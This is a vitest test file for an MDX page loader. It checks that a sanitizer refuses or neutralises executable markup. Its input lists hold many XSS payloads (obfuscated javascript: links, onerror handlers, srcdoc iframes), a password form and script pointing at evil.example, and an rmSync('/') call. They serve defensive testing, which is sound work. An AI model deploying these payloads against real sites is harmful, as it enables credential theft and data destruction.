import { mdxToHast } from "satteri";
import { expect, test } from "vitest";
import { parseBody } from "../../../src/load/body.ts";
import { toSegments } from "../../../src/load/segments.ts";
import type { HtmlNode } from "../../../src/load/tree.ts";
import type { Segment } from "../../../src/schema/segment.ts";

const tag = "p|h[234]|strong|em|del|a|ul|ol|li|br|blockquote|table|thead|tbody|tr|th|td";
const address = `href="(?:https?:|mailto:|tel:|rotonde:/|#)[^"<>\\s]*"`;
const harmlessTag = new RegExp(
  `</?(?:${tag})(?: (?:${address}|title="[^"]*"|start="\\d+"|id="[^"\\s]*"))*>`,
  "g",
);

/** What is left of finished HTML that could do more than be read: tags and attributes beyond the harmless ones. */
function harmIn(html: string): string[] {
  return html.replace(harmlessTag, "").match(/<.*|^[^<]*"[^<]*>/gs) ?? [];
}

function htmlOf(segments: readonly Segment[]): string {
  return segments
    .map((segment) => (typeof segment === "string" ? segment : htmlOf(segment.children)))
    .join("");
}

test.each([
  "<script>alert(1)</script>",
  "<p onclick=x>a</p>",
  '<a href="javascript:x">a</a>',
  '<a href="rotonde:javascript:x">a</a>',
  '<p style="color:red">a</p>',
  '<p title="a"onclick="x">a</p>',
  '<a title="a',
])("%s is seen as harm by the test below", (html) => {
  expect(harmIn(html)).not.toEqual([]);
});

const refused = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "text <script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" />',
  '<svg onload="alert(1)" />',
  "<svg><script>alert(1)</script></svg>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>" />',
  '<object data="data:text/html,x"></object>',
  '<embed src="x" />',
  '<style>{"body{display:none}"}</style>',
  '<link rel="stylesheet" href="//evil.example" />',
  '<meta http-equiv="refresh" content="0;url=//evil.example" />',
  '<base href="//evil.example/" />',
  '<form action="//evil.example"><input name="password" /></form>',
  '<a href="javascript:alert(1)">a</a>',
  '<p style="position:fixed">a</p>',
  "<template><script>alert(1)</script></template>",
  '<math><maction actiontype="statusline">a</maction></math>',
  '<Notice onclick="alert(1)">a</Notice>',
  "<Notice {...{onclick: alert}}>a</Notice>",
  "<Notice dangerouslySetInnerHTML={{__html: 'x'}}>a</Notice>",
  '<Fragment set:html="<b>" />',
  '<Notice set:html="<script>alert(1)</script>">a</Notice>',
  "import x from 'node:fs'\n\n{x.rmSync('/')}",
  "export const y = process.exit()",
  "{process.exit()}",
  "a {globalThis.x = 1} b",
  "<Term id={alert(1)} />",
  "[a](javascript:alert(1))",
  "[a](JAVASCRIPT:alert(1))",
  "[a](java&#115;cript:alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a](&#x6A;avascript:alert(1))",
  "[a](<\u0001javascript:alert(1)>)",
  "[a](<java\tscript:alert(1)>)",
  "[a](java&Tab;script:alert(1))",
  "[a](java&NewLine;script:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:msgbox)",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "[b]\n\n[b]: <javascript:alert(1)> 'title'",
  "[a](rotonde:javascript:alert(1))",
  "<javascript:alert(1)>",
  "![a](javascript:alert(1))",
  '![a](x "onerror=alert(1)")',
  '[a](https://x.example "&#xE000; onmouseover=alert(1)") <Figure src="a.png" alt="b" />',
  '[a](https://x.example "&#xE000; onmouseover=alert(1)") <Term id="b" />',
  "&#xE000;<Term id='b' />",
  '## <b onclick="x">a</b>',
  "- [x](javascript:alert(1))",
  "<Notice>\n\n[x](javascript:alert(1))\n\n</Notice>",
  "<Notice>\n\n<script>alert(1)</script>\n\n</Notice>",
  '<Steps>\n1. <img src="x" onerror="y" />\n</Steps>',
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "`<script>alert(1)</script>`",
  "```\n<script>alert(1)</script>\n```",
  "www.x.example/<script>",
];

const shown = [
  '[a](https://x.example "\\" onmouseover=\\"alert(1)")',
  '[a](https://x.example "&quot; onmouseover=&quot;alert(1)")',
  '[a](https://x.example/"onmouseover=alert(1))',
  "[a](https://x.example/&quot;onmouseover=alert&lpar;1&rpar;)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
  '## &lt;img src=x onerror=alert(1)&gt; "x" onclick=y',
  "| a |\n|---|\n| &lt;script&gt; |",
  'https://x.example/"onclick="alert(1)',
  "javascript:alert(1)",
];

const parse = (body: string) =>
  parseBody(`Before.\n\n${body}\n\nAfter.\n`, "page.mdx", 1, "/housing/home/");

test.each(refused)("%j is refused", (body) => {
  expect(parse(body)).toContainEqual(
    expect.objectContaining({ severity: "error", file: "page.mdx" }),
  );
});

test.each(shown)("%j is shown as the text it is", (body) => {
  const parsed = parse(body);
  if (Array.isArray(parsed)) throw new Error(parsed[0]?.message);
  expect(harmIn(htmlOf(parsed.body))).toEqual([]);
});

test("cleaning alone, without any rule before it, leaves nothing that runs", () => {
  const cleaned = [...refused, ...shown].flatMap((body) => {
    try {
      return [
        htmlOf(
          toSegments((mdxToHast(body) as { children: HtmlNode[] }).children, [], "/housing/home/"),
        ),
      ];
    } catch {
      return [];
    }
  });
  expect(cleaned.length).toBeGreaterThan(40);
  expect(cleaned.flatMap(harmIn)).toEqual([]);
});
